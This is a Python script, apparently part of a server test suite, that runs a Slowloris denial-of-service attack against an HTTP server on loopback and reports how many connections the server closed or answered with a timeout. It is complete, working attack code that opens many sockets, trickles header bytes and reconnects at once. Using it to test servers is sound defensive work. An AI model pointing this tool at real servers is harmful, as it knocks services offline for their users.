"""Slowloris against an HTTP server on loopback: COUNT clients that each
connect, send `GET / HTTP/1.1\\r\\n`, then one more byte (`X`) every INTERVAL
seconds, never finishing the head, and reconnect at once whenever the server
closes them. One process, non-blocking sockets, one selector.

Usage: slowloris.py PORT COUNT DURATION [INTERVAL]

Prints `ready CONNECTED ERRORS` once every first connection attempt has
finished (or 10 s have passed), then runs until DURATION seconds have passed
or its stdin closes, and prints
`connects N closes N errors N answered N`:
connections established, connections the server closed (end of stream or
reset), failed connects and unexpected socket errors, and connections that
got some answer (such as a 408) before the close."""

import errno
import os
import resource
import selectors
import socket
import sys
import time

PORT = int(sys.argv[1])
COUNT = int(sys.argv[2])
DURATION = float(sys.argv[3])
INTERVAL = float(sys.argv[4]) if len(sys.argv) > 4 else 5.0
ADDR = ('127.0.0.1', PORT)
# After a failed connect, wait this long before the next attempt, so a dead
# server does not turn the loop into a busy one.
RETRY_AFTER = 0.5

soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
want = COUNT + 100
if soft < want:
    if hard != resource.RLIM_INFINITY and hard < want:
        sys.exit('slowloris: open-file limit %d is below the %d needed' % (hard, want))
    resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))

sel = selectors.DefaultSelector()
stats = {'connects': 0, 'closes': 0, 'errors': 0, 'answered': 0}


class Client:
    def __init__(self):
        self.sock = None
        self.connected = False
        self.answered = False
        self.next_send = 0.0  # when the next byte is due (connected) or the next connect (not)
        self.first_done = False  # the first connection attempt has finished


clients = [Client() for _ in range(COUNT)]


def connect(c):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setblocking(False)
    c.sock, c.connected, c.answered = s, False, False
    err = s.connect_ex(ADDR)
    if err not in (0, errno.EINPROGRESS):
        failed(c)
        return
    sel.register(s, selectors.EVENT_WRITE, c)


def drop(c):
    if c.sock is not None:
        try:
            sel.unregister(c.sock)
        except (KeyError, ValueError):
            pass
        c.sock.close()
        c.sock = None


def failed(c):
    """An error of ours or a failed connect: try again a little later."""
    stats['errors'] += 1
    c.first_done = True
    drop(c)
    c.next_send = time.monotonic() + RETRY_AFTER


def closed_by_server(c):
    stats['closes'] += 1
    if c.answered:
        stats['answered'] += 1
    drop(c)
    connect(c)


def on_event(c, mask):
    if not c.connected:
        err = c.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
        if err != 0:
            failed(c)
            return
        c.connected = True
        c.first_done = True
        stats['connects'] += 1
        sel.modify(c.sock, selectors.EVENT_READ, c)
        send(c, b'GET / HTTP/1.1\r\n')
        return
    try:
        data = c.sock.recv(4096)
    except (ConnectionResetError, BrokenPipeError):
        closed_by_server(c)
        return
    except BlockingIOError:
        return
    except OSError:
        failed(c)
        return
    if data:
        c.answered = True  # an answer (a 408); the close follows
    else:
        closed_by_server(c)


def send(c, data):
    try:
        c.sock.send(data)
        c.next_send = time.monotonic() + INTERVAL
    except BlockingIOError:
        c.next_send = time.monotonic() + INTERVAL
    except (ConnectionResetError, BrokenPipeError):
        closed_by_server(c)
    except OSError:
        failed(c)


start = time.monotonic()
for c in clients:
    connect(c)
try:
    sel.register(sys.stdin, selectors.EVENT_READ, None)
    watching_stdin = True
except OSError:
    # Not a pipe or a terminal (/dev/null, a file): DURATION alone ends the run.
    watching_stdin = False
ready = False
stop = False
while not stop and time.monotonic() - start < DURATION:
    now = time.monotonic()
    if not ready and (all(c.first_done for c in clients) or now - start > 10):
        print('ready %d %d' % (stats['connects'], stats['errors']), flush=True)
        ready = True
    for key, mask in sel.select(timeout=0.1):
        if key.data is None:
            if not os.read(sys.stdin.fileno(), 1024):
                stop = True
            continue
        on_event(key.data, mask)
    now = time.monotonic()
    for c in clients:
        if now >= c.next_send:
            if c.sock is None:
                connect(c)
            elif c.connected:
                send(c, b'X')

if watching_stdin:
    sel.unregister(sys.stdin)
for c in clients:
    drop(c)
print('connects %d closes %d errors %d answered %d'
      % (stats['connects'], stats['closes'], stats['errors'], stats['answered']), flush=True)
